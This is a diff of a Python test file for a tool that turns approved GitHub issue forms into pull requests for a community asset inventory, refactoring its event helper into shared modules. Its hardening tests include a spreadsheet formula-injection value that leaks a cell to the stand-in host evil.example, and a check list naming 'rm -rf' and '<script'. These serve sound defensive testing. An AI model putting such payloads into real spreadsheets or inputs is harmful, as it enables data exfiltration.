@@ -2,7 +2,6 @@
 
 from __future__ import annotations
 
-import copy
 import csv
 import io
 import json
@@ -33,11 +32,8 @@ from assetmap.inventory.load import load
 from assetmap.inventory.problems import UsageError
 from assetmap.inventory.read import read_table
 
-from .conftest import FIXTURES, INVENTORY, ROOT, TODAY
-
-ISSUES = FIXTURES / "issues"
-EVENT = json.loads((ISSUES / "event-labeled.json").read_text(encoding="utf-8"))
-CHANGE_REPORTS = ("good-change", "good-confirm", "good-closure", "bad-change-unknown-asset")
+from .support.issues import CHANGE_REPORTS, FORMULA, ISSUES, issue_event
+from .support.project import FIXTURES, INVENTORY, ROOT, TODAY
 
 # What reading each body gives: the problems (column, code), or none.
 PARSED = {
@@ -77,15 +73,6 @@ def _form_for(name: str, settings):
 def _parse(name: str, settings):
     body = (ISSUES / name).read_text(encoding="utf-8")
     return parse(body, _form_for(name, settings), settings.language_codes)
-
-
-def _event(name: str, label: str = "approved") -> dict:
-    event = copy.deepcopy(EVENT)
-    event["issue"]["body"] = (ISSUES / name).read_text(encoding="utf-8")
-    kind = "change-report" if name.removesuffix(".md") in CHANGE_REPORTS else "proposal"
-    event["issue"]["labels"] = [{"name": kind}, {"name": "approved"}]
-    event["label"] = {"name": label}
-    return event
 
 
 @pytest.fixture()
@@ -203,7 +190,7 @@ def test_a_span_is_one_line_and_longer_than_its_backticks():
 
 def test_a_new_asset_adds_one_row_and_keeps_every_other_byte(data, settings):
     before = _rows(data / "good.csv")
-    outcome = apply_issue(_event("good-proposal.md"), data, settings, today=TODAY)
+    outcome = apply_issue(issue_event("good-proposal.md"), data, settings, today=TODAY)
     assert outcome.result == PULL_REQUEST, outcome.comment
     after = _rows(data / "good.csv")
     new_id = "jardin-communautaire-du-vieux-moulin"
@@ -224,7 +211,7 @@ def test_a_new_asset_adds_one_row_and_keeps_every_other_byte(data, settings):
 def test_a_change_report_changes_one_row(data, settings, name, changed, expected):
     before_rows = _rows(data / "good.csv")
     before = {r.cells["id"]: r.cells for r in read_table(data / "good.csv").records}
-    outcome = apply_issue(_event(name), data, settings, today=TODAY)
+    outcome = apply_issue(issue_event(name), data, settings, today=TODAY)
     assert outcome.result == PULL_REQUEST, outcome.comment
     after_rows = _rows(data / "good.csv")
     assert {k: v for k, v in after_rows.items() if k != changed} == \
@@ -236,7 +223,7 @@ def test_a_change_report_changes_one_row(data, settings, name, changed, expected
 
 def test_a_closure_removes_one_row(data, settings):
     before = _rows(data / "good.csv")
-    outcome = apply_issue(_event("good-closure.md"), data, settings, today=TODAY)
+    outcome = apply_issue(issue_event("good-closure.md"), data, settings, today=TODAY)
     assert outcome.result == PULL_REQUEST
     assert outcome.title == "Remove asset cafe-rencontre (#42)"
     assert _rows(data / "good.csv") == {"walking-group": before["walking-group"]}
@@ -248,7 +235,7 @@ def test_a_yaml_inventory_keeps_every_other_item(tmp_path, settings):
     for name in ("categories.yml", "neighbourhoods.yml", "good.yml"):
         shutil.copy(INVENTORY / name, folder / name)
     original = (folder / "good.yml").read_text(encoding="utf-8")
-    outcome = apply_issue(_event("good-closure.md"), folder, settings, today=TODAY)
+    outcome = apply_issue(issue_event("good-closure.md"), folder, settings, today=TODAY)
     assert outcome.result == PULL_REQUEST, outcome.comment
     assert (folder / "good.yml").read_text(encoding="utf-8") == \
         original[:original.index("- id: cafe-rencontre")]
@@ -257,7 +244,7 @@ def test_a_yaml_inventory_keeps_every_other_item(tmp_path, settings):
 @pytest.mark.parametrize("name", sorted(set(REJECTED) | set(PARSED)))
 def test_problems_give_a_comment_and_change_no_file(data, settings, name):
     original = (data / "good.csv").read_bytes()
-    outcome = apply_issue(_event(name), data, settings, today=TODAY)
+    outcome = apply_issue(issue_event(name), data, settings, today=TODAY)
     assert outcome.result == COMMENT
     assert (data / "good.csv").read_bytes() == original
     assert outcome.comment.startswith("Thank you!")
@@ -269,12 +256,12 @@ def test_problems_give_a_comment_and_change_no_file(data, settings, name):
 
 
 def test_the_comment_lists_problems_by_question(data, settings):
-    outcome = apply_issue(_event("bad-invalid-phone.md"), data, settings, today=TODAY)
+    outcome = apply_issue(issue_event("bad-invalid-phone.md"), data, settings, today=TODAY)
     assert "Phone number: '613-555-01' is not a valid phone number" in outcome.comment
 
 
 def test_a_column_the_file_lacks_is_a_problem_for_a_steward(data, settings):
-    event = _event("good-proposal.md")
+    event = issue_event("good-proposal.md")
     event["issue"]["body"] = event["issue"]["body"].replace(
         "### When is it on?\n\n_No response_", "### When is it on?\n\nTuesdays 10 am")
     outcome = apply_issue(event, data, settings, today=TODAY)
@@ -284,7 +271,7 @@ def test_a_column_the_file_lacks_is_a_problem_for_a_steward(data, settings):
 
 @pytest.mark.parametrize("name", sorted(HOSTILE_TEXT) + ["good-change.md"])
 def test_contributor_text_reaches_github_only_inside_code_blocks(data, settings, name):
-    outcome = apply_issue(_event(name), data, settings, today=TODAY)
+    outcome = apply_issue(issue_event(name), data, settings, today=TODAY)
     assert outcome.result == PULL_REQUEST, outcome.comment
     shown = _outside_fences(outcome.body)
     for word in ("evil.example", "@riverbend", "<script", "rm -rf", "waiting list"):
@@ -296,12 +283,12 @@ def test_contributor_text_reaches_github_only_inside_code_blocks(data, settings,
 
 def test_only_an_open_issue_just_labelled_approved_is_applied(data, settings):
     original = (data / "good.csv").read_bytes()
-    assert apply_issue(_event("good-proposal.md", label="proposal"), data,
+    assert apply_issue(issue_event("good-proposal.md", label="proposal"), data,
                        settings).result == SKIP
-    closed = _event("good-proposal.md")
+    closed = issue_event("good-proposal.md")
     closed["issue"]["state"] = "closed"
     assert apply_issue(closed, data, settings).result == SKIP
-    not_a_form = _event("good-proposal.md")
+    not_a_form = issue_event("good-proposal.md")
     not_a_form["issue"]["labels"] = [{"name": "approved"}]
     not_a_form["issue"]["body"] = "### Hello\n\nPlease add our choir."
     outcome = apply_issue(not_a_form, data, settings)
@@ -313,7 +300,7 @@ def test_an_issue_that_lost_its_form_label_is_known_by_its_questions(data, setti
     """Issue forms add their label only when it exists: until the check workflow has made
     it, an issue made with a form has none. Its headings still say which form it is."""
     for name, label in (("good-proposal.md", "proposal"), ("good-change.md", "change-report")):
-        event = _event(name)
+        event = issue_event(name)
         event["issue"]["labels"] = [{"name": "approved"}]
         assert apply_issue(event, data, settings, today=TODAY).result == PULL_REQUEST
         event["action"], event["label"] = "opened", None
@@ -329,7 +316,7 @@ def test_an_event_that_is_not_about_an_issue_is_a_usage_problem(event):
 
 def test_the_command_writes_outputs_for_the_workflow(tmp_path, data):
     event_file = tmp_path / "event.json"
-    event_file.write_text(json.dumps(_event("good-proposal.md")), encoding="utf-8")
+    event_file.write_text(json.dumps(issue_event("good-proposal.md")), encoding="utf-8")
     out = tmp_path / "out"
     result = CliRunner().invoke(main, ["apply-issue", str(event_file), "--data", str(data),
                                        "--out", str(out), "--config", str(ROOT / "mkdocs.yml")])
@@ -339,7 +326,7 @@ def test_the_command_writes_outputs_for_the_workflow(tmp_path, data):
     assert sorted(p.name for p in out.iterdir()) == ["body.md", "branch", "commit.txt",
                                                      "result", "title"]
     bad = tmp_path / "bad.json"
-    bad.write_text(json.dumps(_event("bad-repeated-heading.md")), encoding="utf-8")
+    bad.write_text(json.dumps(issue_event("bad-repeated-heading.md")), encoding="utf-8")
     result = CliRunner().invoke(main, ["apply-issue", str(bad), "--data", str(data), "--out",
                                        str(out), "--config", str(ROOT / "mkdocs.yml")])
     assert result.exit_code == 0
@@ -355,7 +342,7 @@ def test_the_workflow_step_on_a_copy_of_the_sample_changes_only_one_row(tmp_path
     # The fixture body answers the fixture taxonomy's form; answer the sample's form instead.
     propose, _ = forms_for(sample, load_settings(ROOT / "mkdocs.yml"))
     labels = dict(next(q for q in propose.questions if q.id == "category").options)
-    event = _event("good-proposal.md")
+    event = issue_event("good-proposal.md")
     event["issue"]["body"] = event["issue"]["body"].replace(
         "Nature — parks, trails and gardens (nature), Belonging — groups where people meet "
         "(belonging)", f"{labels['nature']}, {labels['belonging']}")
@@ -421,11 +408,8 @@ def test_review_command_writes_a_file(tmp_path, data):
 
 # --- hardening: what lands in a steward's file ---------------------------------------------
 
-FORMULA = '=HYPERLINK("https://evil.example/?x="&A2,"Riverbend")'
-
-
 def test_a_formula_answer_lands_as_text_that_no_spreadsheet_runs(data, settings):
-    outcome = apply_issue(_event("inert-formula.md"), data, settings, today=TODAY)
+    outcome = apply_issue(issue_event("inert-formula.md"), data, settings, today=TODAY)
     assert outcome.result == PULL_REQUEST, outcome.comment
     table = read_table(data / "good.csv")
     record = next(r for r in table.records if r.cells["name"] == FORMULA)
@@ -440,7 +424,7 @@ def test_the_earlier_wording_of_a_choice_is_understood(settings):
 
 
 def test_a_change_report_shows_each_cell_old_and_new(data, settings):
-    outcome = apply_issue(_event("good-change.md"), data, settings, today=TODAY)
+    outcome = apply_issue(issue_event("good-change.md"), data, settings, today=TODAY)
     assert outcome.result == PULL_REQUEST
     block = outcome.body.split("```text\n", 1)[1].split("\n```", 1)[0]
     assert "accepting: waitlist → yes" in block.split("\n")
@@ -453,9 +437,9 @@ def test_a_change_report_shows_each_cell_old_and_new(data, settings):
 def test_applying_the_same_issue_again_changes_nothing_and_says_so(data, settings, name):
     """Once the first pull request is merged, a second "approved" is not a failed job: the
     map already says it, and a comment says so."""
-    assert apply_issue(_event(name), data, settings, today=TODAY).result == PULL_REQUEST
+    assert apply_issue(issue_event(name), data, settings, today=TODAY).result == PULL_REQUEST
     merged = (data / "good.csv").read_bytes()
-    outcome = apply_issue(_event(name), data, settings, today=TODAY)
+    outcome = apply_issue(issue_event(name), data, settings, today=TODAY)
     assert outcome.result == DONE, outcome.comment
     assert outcome.comment.startswith("Thank you!") and "nothing to change" in outcome.comment
     assert (data / "good.csv").read_bytes() == merged
@@ -466,9 +450,9 @@ def test_two_proposals_of_the_same_name_get_two_ids(data, settings, tmp_path):
     so the second one's id gets a suffix instead of colliding with it."""
     first = tmp_path / "pending" / "41"
     shutil.copytree(data, first)
-    assert apply_issue(_event("good-proposal.md"), first, settings,
+    assert apply_issue(issue_event("good-proposal.md"), first, settings,
                        today=TODAY).result == PULL_REQUEST
-    outcome = apply_issue(_event("good-proposal.md"), data, settings, today=TODAY,
+    outcome = apply_issue(issue_event("good-proposal.md"), data, settings, today=TODAY,
                           pending=tmp_path / "pending")
     assert outcome.result == PULL_REQUEST
     ids = [r.cells["id"] for r in read_table(data / "good.csv").records]
@@ -488,7 +472,7 @@ def test_two_approved_proposals_merge_without_a_conflict(data, settings, tmp_pat
     for number, name in ((1, "Dance for everyone"), (2, "Zumba in the park")):
         copy = tmp_path / f"pr{number}"
         shutil.copytree(data, copy)
-        event = _event("good-proposal.md")
+        event = issue_event("good-proposal.md")
         event["issue"]["number"] = number
         event["issue"]["body"] = event["issue"]["body"].replace(
             "Jardin communautaire du Vieux-Moulin", name)
@@ -510,7 +494,7 @@ def test_text_the_file_cannot_hold_is_a_comment_for_contributor_and_steward(tmp_
     for name in ("categories.yml", "neighbourhoods.yml", "good-windows-1252-semicolon.csv"):
         shutil.copy(INVENTORY / name, folder / name)
     original = (folder / "good-windows-1252-semicolon.csv").read_bytes()
-    event = _event("good-proposal.md")
+    event = issue_event("good-proposal.md")
     event["issue"]["body"] = event["issue"]["body"].replace(
         "No experience needed", "لا حاجة إلى خبرة 🌱")
     outcome = apply_issue(event, folder, settings, today=TODAY)
@@ -525,7 +509,7 @@ def test_text_the_file_cannot_hold_is_a_comment_for_contributor_and_steward(tmp_
 
 
 def _opened(name: str) -> dict:
-    event = _event(name)
+    event = issue_event(name)
     event["action"], event["label"] = "opened", None
     event["issue"]["labels"] = [label for label in event["issue"]["labels"]
                                 if label["name"] != "approved"]
@@ -582,7 +566,7 @@ def project(tmp_path):
 
 def test_the_pull_request_says_the_site_was_built_with_the_change(project, settings):
     data = project.parent / "data"
-    outcome = apply_issue(_event("good-proposal.md"), data,
+    outcome = apply_issue(issue_event("good-proposal.md"), data,
                           settings, today=TODAY, build_config=project)
     assert outcome.result == PULL_REQUEST, outcome.comment
     assert "built the whole site with it: the build passed" in outcome.body
@@ -598,7 +582,7 @@ def test_a_change_the_site_cannot_be_built_with_is_not_proposed(project, setting
     project.write_text(config, encoding="utf-8")
     (project.parent / "docs" / "stylesheets" / "print.css").unlink()
     original = {p.name: p.read_bytes() for p in data.iterdir() if p.is_file()}
-    outcome = apply_issue(_event("good-proposal.md"), data, settings, today=TODAY,
+    outcome = apply_issue(issue_event("good-proposal.md"), data, settings, today=TODAY,
                           build_config=project)
     assert outcome.result == COMMENT
     assert "could not be built" in outcome.comment and "print.css" in outcome.comment
